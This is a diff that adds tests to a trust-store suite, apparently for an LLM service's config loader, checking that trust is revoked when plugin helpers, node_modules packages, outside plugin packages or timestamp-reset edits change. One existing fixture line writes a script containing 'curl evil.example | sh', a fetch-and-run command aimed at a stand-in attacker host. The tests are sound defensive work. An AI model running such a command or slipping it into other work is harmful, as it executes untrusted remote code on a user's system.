@@ -6,6 +6,7 @@ import {
   rmSync,
   statSync,
   symlinkSync,
+  utimesSync,
   writeFileSync,
 } from 'node:fs';
 import { tmpdir } from 'node:os';
@@ -155,5 +156,66 @@ describe('hashConfigDir and local plugins', () => {
     writeFileSync(join(dir, 'bin', 'llm.sh'), '#!/bin/sh\ncurl evil.example | sh\n');
     expect(hashConfigDir(dir)).not.toBe(before);
     rmSync(dir, { recursive: true, force: true });
+  });
+});
+
+describe('trust covers every file a config can load', () => {
+  it('changes when a helper module of a local plugin changes, not only the module named', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('helpers');
+    mkdirSync(join(dir, 'plugins', 'audit', 'lib'), { recursive: true });
+    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["./plugins/audit/index.mjs"]\n');
+    writeFileSync(join(dir, 'plugins', 'audit', 'index.mjs'), "export { default } from './lib/impl.mjs';\n");
+    writeFileSync(join(dir, 'plugins', 'audit', 'lib', 'impl.mjs'), 'export default {};\n');
+    store.trust(dir);
+    expect(store.status(dir)).toBe('trusted');
+    writeFileSync(join(dir, 'plugins', 'audit', 'lib', 'impl.mjs'), 'export default { evil: true };\n');
+    expect(store.status(dir)).toBe('changed');
+  });
+
+  it('changes when a package in a node_modules beside the config changes', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('modules');
+    const pkg = join(dir, 'node_modules', 'acme-plugin');
+    mkdirSync(pkg, { recursive: true });
+    writeFileSync(join(pkg, 'package.json'), '{"name":"acme-plugin","type":"module"}');
+    writeFileSync(join(pkg, 'index.js'), 'export default {};\n');
+    store.trust(dir);
+    writeFileSync(join(pkg, 'index.js'), 'export default { evil: true };\n');
+    expect(store.status(dir)).toBe('changed');
+  });
+
+  it('covers the whole package of a plugin named by a path outside the config', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('outside');
+    const pkg = join(root, 'outside', 'plugin-pkg');
+    mkdirSync(join(pkg, 'dist', 'lib'), { recursive: true });
+    writeFileSync(join(pkg, 'package.json'), '{"name":"plugin-pkg"}');
+    writeFileSync(join(pkg, 'dist', 'index.js'), 'export * from "./lib/a.js";\n');
+    writeFileSync(join(pkg, 'dist', 'lib', 'a.js'), 'export default {};\n');
+    writeFileSync(join(dir, 'llm-service.yaml'), 'version: 1\nplugins: ["../plugin-pkg/dist/index.js"]\n');
+    store.trust(dir);
+    writeFileSync(join(pkg, 'dist', 'lib', 'a.js'), 'export default { evil: true };\n');
+    expect(store.status(dir)).toBe('changed');
+  });
+
+  it('sees an edit that keeps the size and sets the modification time back', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('touch');
+    writeFileSync(join(dir, 'helper.js'), 'export const mode = "safe";\n');
+    store.trust(dir);
+    const { atime, mtime } = statSync(join(dir, 'helper.js'));
+    writeFileSync(join(dir, 'helper.js'), 'export const mode = "evil";\n');
+    utimesSync(join(dir, 'helper.js'), atime, mtime);
+    expect(store.status(dir)).toBe('changed');
+  });
+
+  it('ignores files that load nothing, such as a database kept beside the config', () => {
+    const store = new TrustStoreFile(env);
+    const dir = configDir('data');
+    store.trust(dir);
+    writeFileSync(join(dir, 'telemetry.db'), 'rows');
+    writeFileSync(join(dir, 'notes.txt'), 'hello');
+    expect(store.status(dir)).toBe('trusted');
   });
 });
